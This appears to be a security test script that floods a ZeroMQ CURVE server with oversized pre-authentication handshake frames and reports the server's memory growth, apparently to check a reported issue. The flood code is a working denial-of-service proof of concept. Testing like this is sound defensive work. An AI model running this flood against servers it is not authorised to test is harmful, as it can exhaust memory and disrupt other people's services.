#!/usr/bin/env python3
"""Memory before authentication (issue 13 item 4), from outside the code.

Opens CONNECTIONS raw TCP connections to a ZeroMQ CURVE server; each sends a ZMTP 3.0
greeting and then the start of a handshake command frame that claims CLAIM bytes, and
streams zeros toward it (up to SEND bytes) until the server hangs up. Meanwhile it samples
the server's resident memory (VmRSS of PID) and prints one JSON line:
  {"baseline_mib":..., "peak_mib":..., "growth_mib":..., "sent_mib":[...], "seconds":...}

Usage: pre_auth_flood.py HOST PORT PID [--connections 4] [--claim BYTES] [--send BYTES]
Standard library only.
"""
import argparse
import json
import socket
import struct
import threading
import time


def rss_mib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024.0
    raise RuntimeError(f"no VmRSS for pid {pid}")


def greeting():
    # ZMTP 3.0: signature (0xFF, 8 bytes padding, 0x7F), version 3.0, mechanism (20 bytes),
    # as-server 0, filler (31 bytes).
    return b"\xff" + b"\x00" * 8 + b"\x7f" + bytes([3, 0]) + b"CURVE".ljust(20, b"\x00") + \
        b"\x00" + b"\x00" * 31


def attack(host, port, claim, limit, sent, index):
    chunk = b"\x00" * (1 << 20)
    try:
        with socket.create_connection((host, port), timeout=30) as s:
            s.sendall(greeting())
            s.sendall(bytes([0x06]) + struct.pack(">Q", claim))  # command | long size
            while sent[index] < limit:
                s.sendall(chunk)
                sent[index] += len(chunk)
    except OSError:
        pass  # the server hung up: what it should do


def main():
    p = argparse.ArgumentParser()
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("pid", type=int)
    p.add_argument("--connections", type=int, default=4)
    p.add_argument("--claim", type=int, default=1 << 30)
    p.add_argument("--send", type=int, default=256 << 20)
    a = p.parse_args()
    baseline = rss_mib(a.pid)
    sent = [0] * a.connections
    threads = [threading.Thread(target=attack, args=(a.host, a.port, a.claim, a.send, sent, i))
               for i in range(a.connections)]
    start = time.monotonic()
    for t in threads:
        t.start()
    peak = baseline
    while any(t.is_alive() for t in threads):
        peak = max(peak, rss_mib(a.pid))
        time.sleep(0.05)
    # Whatever the server still holds right after the connections end.
    for _ in range(10):
        peak = max(peak, rss_mib(a.pid))
        time.sleep(0.05)
    print(json.dumps({"baseline_mib": round(baseline, 1), "peak_mib": round(peak, 1),
                      "growth_mib": round(peak - baseline, 1),
                      "sent_mib": [round(s / (1 << 20)) for s in sent],
                      "seconds": round(time.monotonic() - start, 2)}))


if __name__ == "__main__":
    main()
